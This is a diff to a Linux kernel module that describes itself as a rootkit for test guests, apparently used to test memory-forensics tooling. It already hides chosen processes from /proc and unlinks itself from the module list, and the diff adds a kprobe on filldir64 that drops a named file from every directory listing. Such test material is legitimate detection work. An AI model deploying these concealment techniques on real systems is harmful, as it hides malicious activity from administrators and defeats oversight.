@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: GPL-2.0
-// A rootkit for the guests of the tests, in the manner of those in use: processes and threads are left out of every listing of /proc,
+// A rootkit for the guests of the tests, in the manner of those in use: processes and threads are left out of every listing of /proc, a name of every other,
 // and the module out of the list of modules. The factory builds it in LiME's place, hence the name of the file.
 #include <linux/kprobes.h>
 #include <linux/module.h>
@@ -8,6 +8,8 @@
 static char *pid[4];
 static int pids;
 module_param_array(pid, charp, &pids, 0);
+static char *name = "";
+module_param(name, charp, 0);
 
 // What is called in the place of a function that is to do nothing.
 asm(".pushsection .text\n"
@@ -45,15 +47,38 @@ static struct kprobe probe = {
 	.post_handler = after,
 };
 
+// bool filldir64(struct dir_context *, const char *name, int namlen, ...): a line of any other listing.
+static int leave_name_out(struct kprobe *probe, struct pt_regs *regs)
+{
+	size_t length = (u32)regs->dx;
+
+	if (!length || length != strlen(name) || memcmp((const char *)regs->si, name, length))
+		return 0;
+	regs->ax = true;
+	regs->ip = (unsigned long)just_return;
+	return 1;
+}
+
+static struct kprobe names = {
+	.symbol_name = "filldir64",
+	.pre_handler = leave_name_out,
+	.post_handler = after,
+};
+
 static int __init hide(void)
 {
 	int error = register_kprobe(&probe);
 
-	if (!error)
+	if (error)
+		return error;
+	error = register_kprobe(&names);
+	if (error)
+		unregister_kprobe(&probe);
+	else
 		list_del_init(&THIS_MODULE->list);
 	return error;
 }
 
 module_init(hide);
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("hides processes, threads and itself, for tests");
+MODULE_DESCRIPTION("hides processes, threads, names and itself, for tests");
